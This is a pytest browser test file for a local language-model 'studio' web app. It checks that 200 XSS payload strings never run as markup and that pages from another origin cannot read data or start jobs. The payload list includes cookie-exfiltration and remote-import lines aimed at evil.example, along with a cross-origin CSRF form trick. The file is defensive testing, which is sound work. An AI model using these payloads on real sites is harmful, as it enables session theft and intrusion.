"""R20 in a real browser: text is never markup, and a page of another origin reaches nothing."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from command_line import environment
from conftest import SHAPE, Studio, Watched, tinygpt

# What runs, if it is taken for markup: in every place where it may land.
DEEDS = [
    "hit()",
    "window.hit=1",
    "alert(1)",
    "fetch('//evil.example/'+document.cookie)",
    "import('//evil.example/x.js')",
]
PLACES = [
    "<script>{0}</script>", "<ScRiPt>{0}</sCrIpT>", "</script><script>{0}</script>",
    "<script src=//evil.example/{0}></script>", "<img src=x onerror={0}>", "<img src=//evil.example/{0}>",
    "<svg onload={0}>", "<svg><script>{0}</script></svg>", "<svg><animate onbegin={0} attributeName=x>",
    "<math><mi xlink:href=javascript:{0}>x", "<iframe srcdoc='<script>{0}</script>'>", "<iframe src=javascript:{0}>",
    "<object data=javascript:{0}>", "<embed src=//evil.example/{0}>", "<body onload={0}>",
    "<details open ontoggle={0}>", "<video><source onerror={0}>", "<input autofocus onfocus={0}>",
    "<marquee onstart={0}>", "<a href=javascript:{0} autofocus onfocus={0}>x</a>",
    "<form action=//evil.example/{0}><button autofocus>", "<base href=//evil.example/>{0}",
    "<link rel=stylesheet href=//evil.example/{0}>", "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<style>*{{background:url(//evil.example/{0})}}</style>", "</textarea><script>{0}</script>",
    "</title><script>{0}</script>", "</style><script>{0}</script>", "--><script>{0}</script><!--",
    "]]><script>{0}</script>", "\"><script>{0}</script>", "'><script>{0}</script>", "\" autofocus onfocus={0} x=\"",
    "' onmouseover={0} '", "javascript:{0}", "data:text/html,<script>{0}</script>",
    "{{{{constructor.constructor('{0}')()}}}}", "${{{0}}}", "&lt;script&gt;{0}&lt;/script&gt;",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
]  # fmt: skip
STRINGS = [place.format(deed) for place in PLACES for deed in DEEDS]
COUNT_NODES = (
    "document.querySelectorAll('script, iframe, object, embed, base, form[action], main img, main link, main style,"
    " math, marquee').length"
)
ALARM = "window.hits = 0; window.hit = () => { window.hits += 1; return 0; };"


@pytest.fixture(scope="module")
def hostile(studio_home, tmp_path_factory):
    """A studio over a run that was trained on these strings, samples them, and is opened by one of them."""
    home = tmp_path_factory.mktemp("hostile")
    shutil.copytree(studio_home / "runs" / "story", home / "runs" / "story")
    text = "\n\n".join(f"{string} said the fox. " * 2 for string in STRINGS)
    (home / "strings.txt").write_text(text)
    settings = {**dict(pair.split("=") for pair in SHAPE), "n_embd": "24", "n_heads": "2"}
    tinygpt(
        home,
        "train",
        "strings.txt",
        "--run",
        "strings",
        "--steps",
        "6",
        "--quiet",
        *(f"{k}={v}" for k, v in settings.items()),
    )
    with (home / "runs" / "strings" / "samples.jsonl").open("a") as file:
        for step, string in enumerate(STRINGS):
            file.write(
                json.dumps(
                    {
                        "step": step % 7,
                        "prompt": string,
                        "text": " ".join(STRINGS[step : step + 3]),
                        "seed": 0,
                        "temperature": 1.0,
                    }
                )
                + "\n"
            )
    running = Studio(home)
    yield running
    running.stop()


class Alarmed(Watched):
    """A page that notices when anything of a text runs."""

    def __init__(self, *given, **options) -> None:
        super().__init__(*given, **options)
        self.context.add_init_script(ALARM)
        self.dialogs: list[str] = []
        self.page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))

    def check(self, where: str) -> None:
        found = self.page.evaluate(f"[{COUNT_NODES}, window.hits, typeof window.hit]")
        assert found == [1, 0, "function"], where  # the one script is the studio's own
        assert (self.dialogs, self.strangers) == ([], []), where


def test_200_scripts_in_every_place_stay_text(chromium, hostile):
    """As prompt (typed, on all pages that have one), corpus, sample, and in the address: nothing runs, all is shown."""
    assert len(set(STRINGS)) == 200
    pages = {
        "": 0,
        "tokenizer": 1,
        "forward": 2,
        "attention": 3,
        "lens": 4,
        "generate": 5,
        "compare": 6,
        "memorisation": 7,
    }
    watched = Alarmed(chromium, hostile)
    page = watched.page
    for name, turn in pages.items():
        first = STRINGS[turn]
        watched.open(
            f"/{name}",
            run="strings",
            prompt=first,
            text=first,
            find=first,
            other=first,
            guess=first,
            box=first,
            by=first,
            stage=first,
            name=first,
            begin="1",
            runs=json.dumps([first, "strings", "story"]),
            over=json.dumps([first]),
            step=first,
            pin=first,
            beside=first,
        )
        watched.check(f"{name}: the address")
        field = page.locator("[data-prompt]").first
        mine = STRINGS[turn :: len(pages)]
        for string in mine:
            field.fill(string)
            page.evaluate("new Promise((go) => setTimeout(go, 15))")
            watched.check(f"{name}: {string}")
        watched.quiet()
        watched.check(f"{name}: {mine[-1]}")
        assert field.input_value() == mine[-1]
        if name == "tokenizer":
            shown = page.locator(".pieces").first.locator(".piece-text").all_inner_texts()
            assert "".join(shown).replace("·", " ") == mine[-1]
        assert page.locator(".pane > div > .error").all_inner_texts() == [], name
    for name in ("data", "training", "embeddings", "compare"):  # what the corpus, its tokens and its samples say
        watched.open(f"/{name}", run="strings")
        watched.check(name)
        for button in page.get_by_role("button", name="Table", exact=True).all():
            if button.is_enabled() and button.is_visible():
                button.click()
        watched.check(f"{name}: tables")
    watched.open("/training", run="strings", step="0")
    buttons = page.locator("[aria-label='Steps with a sample'] button")
    assert buttons.count() > 0
    sample = page.locator(".run-sample").inner_text()
    assert any(string in sample for string in STRINGS), sample
    watched.check("samples")
    watched.page.goto(f"{hostile.address}/%3Cimg%20src=x%20onerror=hit()%3E")
    page.get_by_role("heading", name="No such page").wait_for()
    watched.check("an unknown page")
    watched.close()


FOREIGN = b"""<!doctype html><title>elsewhere</title><p>A page that somebody visits.</p>"""
TRY = """async ([studio, token]) => {
  const tried = {};
  const late = () => new Promise((go) => setTimeout(go, 4000, "nothing"));
  const attempt = async (name, work) => {
    try { tried[name] = await Promise.race([work(), late()]); } catch (error) { tried[name] = error.name; }
  };
  const job = JSON.stringify({kind: "train", corpus: "tales", steps: 1});
  const headers = {"Content-Type": "application/json", "X-Tinygpt-Token": token, "X-Tinygpt-Once": crypto.randomUUID()};
  await attempt("read", async () => (await fetch(`${studio}/api/runs`)).text());
  await attempt("read with cookies", async () => (await fetch(`${studio}/api/runs`, {credentials: "include"})).text());
  await attempt("blind", async () => (await fetch(`${studio}/api/runs`, {mode: "no-cors"})).text());
  await attempt("job", async () => (await fetch(`${studio}/api/jobs`, {method: "POST", body: job, headers})).text());
  const blind = {method: "POST", body: job, mode: "no-cors"};
  await attempt("blind job", async () => (await fetch(`${studio}/api/jobs`, blind)).text());
  await attempt("stop", async () => (await fetch(`${studio}/api/jobs/x`, {method: "DELETE", headers})).text());
  await attempt("events", () => new Promise((go) => {
    const source = new EventSource(`${studio}/api/runs/story/events`);
    source.onmessage = (event) => go(event.data);
    source.onerror = () => { source.close(); go("EventError"); };
  }));
  await attempt("script", () => new Promise((go) => {
    const script = document.createElement("script");
    script.src = `${studio}/static/app.js`;
    script.type = "module";
    script.onload = () => go("loaded");
    script.onerror = () => go("ScriptError");
    document.head.append(script);
  }));
  await attempt("frame", () => new Promise((go) => {
    const frame = document.createElement("iframe");
    frame.src = studio;
    frame.onload = () => { try { go(frame.contentDocument?.title || "empty"); } catch (error) { go(error.name); } };
    document.body.append(frame);
  }));
  await attempt("form", () => new Promise((go) => {
    const frame = document.createElement("iframe");
    frame.name = "target";
    document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, {method: "POST", action: `${studio}/api/jobs`, enctype: "text/plain", target: "target"});
    const field = document.createElement("input");
    [field.name, field.value] = [job.slice(0, -1) + ',"name":"', '"}'];
    form.append(field);
    document.body.append(form);
    frame.onload = () => go("sent");
    form.submit();
  }));
  return tried;
}"""


class Elsewhere(BaseHTTPRequestHandler):
    """Another site, on this very machine."""

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.end_headers()
        self.wfile.write(FOREIGN)

    def log_message(self, *_: object) -> None:
        pass


def test_a_page_of_another_origin_reads_and_starts_nothing(chromium, studio):
    """E6: fetch, stream, script, frame and form from a second port, with the token known: nothing read, no job."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        for host in ("127.0.0.1", "localhost"):
            context = chromium.new_context()
            page = context.new_page()
            page.goto(f"http://{host}:{server.server_port}/")
            tried = page.evaluate(TRY, [studio.address, studio.token])
            # an answer that is never shown to the page is a TypeError, or an empty one where it asked blindly
            fetched = ("read", "read with cookies", "job", "stop")
            assert {name: tried[name] for name in fetched} == dict.fromkeys(fetched, "TypeError"), (host, tried)
            assert all(tried[name] in ("", "TypeError") for name in ("blind", "blind job")), (host, tried)
            assert (tried["events"], tried["script"]) == ("EventError", "ScriptError"), (host, tried)
            assert tried["frame"] in ("empty", "SecurityError"), (host, tried)
            assert tried["form"] == "sent", (host, tried)
            context.close()
        jobs = chromium.new_context()
        assert jobs.request.get(f"{studio.address}/api/jobs").json()["job"] is None
        jobs.close()
    finally:
        server.shutdown()
        server.server_close()


# --- what is not there -----------------------------------------------------------------------------------------------


def test_an_unknown_run_step_or_page_is_said_with_a_way_out(watch):
    watched = watch()
    page = watched.page
    watched.open("/attention", run="nobody", prompt="fox")
    assert "There is no run “nobody”" in page.locator("main [role=alert]").inner_text()
    page.get_by_role("button", name="stay with").click()
    watched.quiet()
    assert page.locator("main [role=alert]").count() == 0 and "nobody" not in page.url
    watched.open("/attention", run="story", step="7777", prompt="fox")
    assert "step “7777”" in page.locator("main [role=alert]").inner_text()
    page.get_by_role("button", name="stay at").click()
    watched.quiet()
    assert page.locator("main [role=alert]").count() == 0 and "7777" not in page.url
    assert watched.errors == []
    page.goto(f"{watched.studio.address}/attentoin?run=story")
    page.get_by_role("heading", name="No such page").wait_for()
    page.locator("main").get_by_role("link", name="Home").click()
    page.get_by_role("heading", name="Home", exact=True).wait_for()
    assert [error for error in watched.errors if "404" not in error] == []


def test_a_studio_that_stops_and_starts_again(chromium, own_studio):
    """One sentence, no endless noise in the console; after a reload it goes on; the old token says what to do."""
    command = [sys.executable, "-m", "tinygpt", "train", "tales.txt", "--run", "live", "--steps", "100000", *SHAPE]
    training = subprocess.Popen(
        [*command, "--quiet"], cwd=own_studio.home, env=environment(own_studio.home), stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )  # fmt: skip
    try:
        watched = Watched(chromium, own_studio)
        page = watched.page
        page.goto(own_studio.with_token)
        for _ in range(100):
            listed = page.request.get(f"{own_studio.address}/api/runs").json()["runs"]
            if any(run["name"] == "live" and run["training"] and run["steps"] for run in listed):
                break
            page.wait_for_timeout(200)
        watched.open("/training", run="live")
        page.get_by_text("live is being trained.").wait_for()
        assert watched.errors == []
        port = int(own_studio.address.rsplit(":", 1)[1])
        assert own_studio.stop() == 0
        lost = page.locator(".lost")
        lost.wait_for()
        assert lost.inner_text().startswith("The studio does not answer. Start `tinygpt studio` again, and open the")
        page.wait_for_timeout(300)
        noise = len(watched.errors)
        page.wait_for_timeout(7000)  # longer than any page waits between two looks
        assert len(watched.errors) == noise <= 6, watched.errors
        assert page.locator(".lost").count() == 1
        again = Studio(own_studio.home, port)
        try:
            watched.errors.clear()
            lost.get_by_role("button", name="Reload").click()
            page.get_by_text("live is being trained.").wait_for()
            assert page.locator(".lost").count() == 0 and "run=live" in page.url
            # the window still has the token of the studio that was stopped
            page.get_by_text("Train another run, or fork this one").click()
            page.get_by_role("button", name="Start", exact=True).click()
            page.locator(".work-panel .error").wait_for()
            assert "open the address that was printed last" in page.locator(".work-panel .error").inner_text()
            assert [error for error in watched.errors if "403" not in error] == []
        finally:
            watched.close()
            again.stop()
    finally:
        training.terminate()
        training.wait(timeout=60)
